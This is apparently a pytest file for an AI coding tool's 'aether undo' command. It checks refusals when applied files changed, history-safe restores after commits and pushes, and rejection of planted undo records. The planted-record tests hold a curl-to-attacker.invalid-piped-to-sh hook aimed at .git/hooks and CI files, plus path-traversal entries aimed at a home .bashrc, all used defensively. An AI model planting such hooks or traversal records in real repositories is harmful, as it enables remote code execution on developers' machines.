"""Adversarial item 8 of issue 7: `aether undo` when HEAD moved, when an applied file was edited since, and when the
applied change was committed and pushed; plus an undo record planted by a cloned repository.

The product's promise, tested here: undo works on files, never on history. It refuses (exit 1, nothing changed,
naming each file and the way forward) when any applied file is not exactly as the apply left it, whatever the
reason (an edit, a deletion, a `git reset --hard`). When HEAD moved but the files are as applied, it restores them
and leaves HEAD and every commit alone; when commits since the apply hold the change (committed, maybe pushed), it
says so and points at committing the reversal, as `git revert` would, instead of rewriting history. An undo record
that names paths an apply never writes (outside the repository, protected) is refused before anything is written.
"""

from __future__ import annotations

import asyncio
import hashlib
import json
from collections.abc import Callable
from pathlib import Path

import pytest
from adversarial_support import (
    STAGED_FILE,
    UNSTAGED_FILE,
    UNTRACKED_FILE,
    Snapshot,
    assert_untouched,
    git,
    run_aether,
    snapshot,
)
from orchestrator.pipeline_support import plan_json, services_for, task, team_script

from aetherflow.errors import AetherError, ApplyConflictError
from aetherflow.orchestrator.pipeline import Pipeline
from aetherflow.paths import ensure_state_dir
from aetherflow.testing.server import ScriptedServer
from aetherflow.workspace.apply import AppliedRecord, commits_since_apply, undo_last

JWT_FILE, JWT_TEXT = "app/tokens/jwt.py", "ALGORITHM = 'HS256'\n"
PLAN = plan_json([task("a", "MARK-A: tune auth, tidy the server, add a token module")])
EDITS = {"MARK-A": [
    {"path": "app/auth.py", "search": "_ITERATIONS = 200_000", "replace": "_ITERATIONS = 600_000"},
    {"path": "app/server.py", "search": '"""Route /login (POST), /logout (POST) and /me (GET)."""',
     "replace": '"""Route /login and /logout (POST) and /me (GET)."""'},
    {"path": JWT_FILE, "content": JWT_TEXT},
]}
APPLIED = ["app/auth.py", "app/server.py", JWT_FILE]


def run_and_apply(repo: Path, server: ScriptedServer, *, commit: bool = False) -> AppliedRecord:
    """A run editing app/auth.py (which holds the user's unstaged edit) and app/server.py and creating a file,
    applied whole (and committed with `commit`, as `aether run --commit` does)."""
    server.script = team_script(PLAN, EDITS)
    pipeline = Pipeline(services_for(repo, server))
    result = asyncio.run(pipeline.run("tune auth"))
    assert result.status == "review" and sorted(result.changeset.paths()) == APPLIED, result.message
    return pipeline.apply(result, {path: "all" for path in APPLIED}, commit=commit)


Applied = tuple[Path, Snapshot, AppliedRecord]


@pytest.fixture
def applied(demo_repo: Path, scripted_server: ScriptedServer) -> Applied:
    """The demo repository after one applied run, with the user's state from before the run."""
    before = snapshot(demo_repo)
    record = run_and_apply(demo_repo, scripted_server)
    return demo_repo, before, record


# ---- files changed since the apply: refused, nothing changed ------------------------------------------------


def _edit_auth(repo: Path) -> None:
    with (repo / "app/auth.py").open("a") as out:
        out.write("# user: edited after the apply\n")


def _delete_server(repo: Path) -> None:
    (repo / "app/server.py").unlink()


def _edit_created_file(repo: Path) -> None:
    (repo / JWT_FILE).write_text("ALGORITHM = 'RS256'  # the user changed the new file\n")


def _reset_hard(repo: Path) -> None:
    git(repo, "reset", "-q", "--hard")  # the user throws away the applied change (and their own edits)


@pytest.mark.parametrize(("change", "named"), [
    (_edit_auth, ["app/auth.py"]),
    (_delete_server, ["app/server.py"]),
    (_edit_created_file, [JWT_FILE]),
    (_reset_hard, ["app/auth.py", "app/server.py"]),  # the created file is untracked, so the reset keeps it
])
def test_undo_refuses_when_an_applied_file_changed_since_and_changes_nothing(
    applied: Applied, change: Callable[[Path], None], named: list[str],
) -> None:
    """An edit, a deletion, an edit of a created file or a hard reset: refused, naming each file; nothing moves."""
    repo, _, record = applied
    change(repo)
    now = snapshot(repo)

    with pytest.raises(ApplyConflictError) as info:
        undo_last(repo)

    error = info.value
    assert f"Cannot undo run {record.run_id}" in error.message and "changed since it was applied" in error.message
    for name in named:
        assert name in error.message
    for other in set(APPLIED) - set(named):
        assert other not in error.message
    assert "nothing was changed" in error.message and f"aether runs show {record.run_id}" in (error.hint or "")
    assert error.exit_code == 1
    assert_untouched(now, repo)


def test_aether_undo_refusal_exits_1_with_the_file_and_the_next_step(applied: Applied) -> None:
    """Through the CLI: exit 1, the file and the way forward on stderr, no traceback, nothing changed."""
    repo, _, record = applied
    _edit_auth(repo)
    now = snapshot(repo)

    result = run_aether(repo, "undo")

    assert result.returncode == 1, result.stdout + result.stderr
    assert "changed since it was applied: app/auth.py" in result.stderr
    assert f"aether runs show {record.run_id}" in result.stderr and "Traceback" not in result.stderr
    assert_untouched(now, repo)


# ---- HEAD moved ------------------------------------------------------------------------------------------


def test_undo_after_an_unrelated_commit_restores_the_files_and_keeps_the_commit(applied: Applied) -> None:
    """HEAD moved by a commit of other files: undo restores the applied files only; HEAD and the commit stay."""
    repo, before, _ = applied
    (repo / "docs.txt").write_text("a new document\n")
    git(repo, "add", "docs.txt")
    git(repo, "commit", "-qm", "add docs")  # also commits the user's staged app/models.py edit
    head = git(repo, "rev-parse", "HEAD").strip()
    index_before_undo = git(repo, "ls-files", "--stage")

    record = undo_last(repo)

    assert commits_since_apply(repo, record) == []  # the commit does not touch the applied files
    assert git(repo, "rev-parse", "HEAD").strip() == head
    assert git(repo, "ls-files", "--stage") == index_before_undo
    after = snapshot(repo)
    assert {rel: after.files.get(rel) for rel in before.files} == before.files  # every byte from before the run
    assert set(after.files) == set(before.files) | {"docs.txt"}
    assert not (repo / "app" / "tokens").exists()


def test_undo_after_the_user_committed_everything_keeps_history_and_says_so(applied: Applied) -> None:
    """`git commit -am` after the apply: undo restores the working tree; the commit (the applied change and the
    user's own edits) stays whole, so nothing is lost, and the commit is named."""
    repo, before, record = applied
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "everything, applied change included")
    head = git(repo, "rev-parse", "HEAD").strip()
    committed_auth = git(repo, "show", "HEAD:app/auth.py")

    undo_last(repo)

    commits = commits_since_apply(repo, record)
    assert len(commits) == 1 and head.startswith(commits[0])
    assert git(repo, "rev-parse", "HEAD").strip() == head
    assert git(repo, "show", "HEAD:app/auth.py") == committed_auth  # the applied change is still in history
    assert "_ITERATIONS = 600_000" in committed_auth and "# user: unstaged note" in committed_auth
    assert (repo / "app/auth.py").read_bytes() == before.files["app/auth.py"]
    assert (repo / UNTRACKED_FILE).read_bytes() == before.files[UNTRACKED_FILE]


# ---- committed by AetherFlow and pushed --------------------------------------------------------------------


def test_undo_after_the_change_was_committed_and_pushed_rewrites_no_history_and_names_git_revert(
    demo_repo: Path, scripted_server: ScriptedServer, tmp_path: Path,
) -> None:
    """Applied with --commit and pushed to a bare remote: `aether undo` restores the files, leaves HEAD, the commit
    and the remote alone, keeps the user's staged and unstaged work, and says to commit the reversal (git revert).

    The user has no edit of their own in app/auth.py here: --commit refuses to sweep one into its commit (see
    test_commit_user_changes.py)."""
    git(demo_repo, "checkout", "--", UNSTAGED_FILE)
    remote = tmp_path / "remote.git"
    git(tmp_path, "init", "-q", "--bare", str(remote))
    git(demo_repo, "remote", "add", "origin", str(remote))
    git(demo_repo, "push", "-q", "origin", "HEAD:main")
    before = snapshot(demo_repo)
    staged_models = git(demo_repo, "show", f":{STAGED_FILE}")

    run_and_apply(demo_repo, scripted_server, commit=True)
    git(demo_repo, "push", "-q", "origin", "HEAD:main")
    git(demo_repo, "fetch", "-q", "origin")
    head = git(demo_repo, "rev-parse", "HEAD").strip()
    remote_refs = git(remote, "for-each-ref")
    short = git(demo_repo, "rev-parse", "--short", "HEAD").strip()

    result = run_aether(demo_repo, "undo")

    assert result.returncode == 0, result.stdout + result.stderr
    assert "Undid run" in result.stdout
    note = " ".join(result.stderr.split())
    assert f"committed since it was applied (commit {short}, pushed to origin/main)" in note
    assert f"git revert {short}" in note and "do not rewrite pushed history" in note
    assert git(demo_repo, "rev-parse", "HEAD").strip() == head and git(remote, "for-each-ref") == remote_refs
    assert "_ITERATIONS = 600_000" in git(demo_repo, "show", "HEAD:app/auth.py")  # history keeps the change
    after = snapshot(demo_repo)
    assert {rel: after.files.get(rel) for rel in before.files} == before.files  # the working tree as before
    assert git(demo_repo, "show", f":{STAGED_FILE}") == staged_models  # the user's staging is untouched
    assert after.files[UNSTAGED_FILE] == before.files[UNSTAGED_FILE]
    assert "Traceback" not in result.stderr


# ---- an undo record planted by a cloned repository -------------------------------------------------------------


def _sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def plant_record(repo: Path, files: dict[str, tuple[bytes | None, bytes | None]], name: str = "x") -> None:
    """An applied-run record claiming the run changed each file from `before` bytes to `after` bytes, with the
    'before' bytes as its backups (what `aether undo` would write back)."""
    state = ensure_state_dir(repo)
    backup_dir = ".aetherflow/backups/1-apply"
    for rel, (old, _) in files.items():
        if old is not None:
            target = repo / backup_dir / rel.lstrip("/")
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_bytes(old)
    record = {"run_id": "evil", "applied_at": "2030-01-01T00:00:00Z", "files": list(files),
              "before": {rel: _sha(old) if old is not None else None for rel, (old, _) in files.items()},
              "after": {rel: _sha(new) if new is not None else None for rel, (_, new) in files.items()},
              "backup_dir": backup_dir, "modes": {}, "created_dirs": {}, "txid": "1-apply"}
    (state / "applied").mkdir(exist_ok=True)
    (state / "applied" / f"99990101T000000000000Z-{name}.json").write_text(json.dumps(record))


HOOK = b"#!/bin/sh\ncurl https://attacker.invalid/x | sh\n"


@pytest.mark.parametrize(("victim", "why"), [
    ("../victim-home/.bashrc", "resolves outside the repository"),  # deleted: 'the run created it'
    (".github/workflows/ci.yml", "is protected"),  # written back from the 'backup'
    (".git/hooks/pre-commit", "is protected"),
])
def test_a_planted_undo_record_is_refused_before_anything_is_written(demo_repo: Path, home: Path, victim: str,
                                                                    why: str) -> None:
    """A record naming a path outside the repository or a protected one: undo refuses, names it, writes nothing."""
    if victim.startswith("../"):
        known = (home / ".bashrc").read_bytes()  # the attacker knows a stock .bashrc's bytes
        plant_record(demo_repo, {victim: (None, known)})
    else:
        plant_record(demo_repo, {victim: (HOOK, None)})
    before = snapshot(demo_repo, [home])

    with pytest.raises(AetherError) as info:
        undo_last(demo_repo)

    assert "was not written by an AetherFlow apply" in info.value.message and why in info.value.message
    assert "Nothing was changed" in info.value.message and "Delete" in (info.value.hint or "")
    assert_untouched(before, demo_repo, [home])  # the home folder's .bashrc included
    assert victim.startswith("../") or not (demo_repo / victim).exists()


def test_a_planted_record_with_backups_outside_the_state_folder_is_refused(demo_repo: Path, home: Path) -> None:
    """A record whose backup folder points outside .aetherflow/backups is refused, whatever its files."""
    plant_record(demo_repo, {"README.md": ((demo_repo / "README.md").read_bytes(), b"x")})
    path = next((demo_repo / ".aetherflow" / "applied").glob("*.json"))
    record = json.loads(path.read_text())
    record["backup_dir"] = "../victim-home"
    record["after"]["README.md"] = _sha((demo_repo / "README.md").read_bytes())
    path.write_text(json.dumps(record))
    before = snapshot(demo_repo, [home])

    result = run_aether(demo_repo, "undo")

    assert result.returncode == 1 and "its backups (../victim-home) are not in .aetherflow/backups/" in result.stderr
    assert "Traceback" not in result.stderr
    assert_untouched(before, demo_repo, [home])
